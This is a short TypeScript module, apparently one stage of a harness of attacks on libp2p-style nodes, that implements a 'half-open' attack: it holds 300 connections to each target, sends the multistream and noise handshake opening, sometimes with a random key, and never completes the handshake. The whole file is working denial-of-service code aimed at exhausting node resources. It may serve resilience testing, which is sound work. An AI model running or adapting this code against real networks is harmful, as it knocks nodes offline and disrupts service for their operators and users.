import { randomBytes } from 'node:crypto';
import type { Attack, Stage } from '../attack.ts';
import { keepOpen } from '../raw-socket.ts';

const CONNECTIONS = 300;
export const OPENING = Buffer.from('\x13/multistream/1.0.0\n\x07/noise\n', 'latin1');

/** The first message of noise: a length, and an ephemeral key that nobody has the secret of. */
export const firstMessage = (): Buffer => Buffer.concat([Uint8Array.of(0, 32), randomBytes(32)]);

/** @param from - the addresses that the connections come from */
export const keepHalfOpen = (
  { targets }: Stage,
  signal: AbortSignal,
  from?: readonly string[],
): Promise<number> =>
  keepOpen(targets, CONNECTIONS, signal, (i) => (i % 2 === 0 ? [OPENING] : [OPENING, firstMessage()]), from);

export const attack: Attack = {
  name: 'half-open',
  what: `${CONNECTIONS} connections to each node begin the handshake and never end it.`,
  run: (stage, signal) => keepHalfOpen(stage, signal),
};
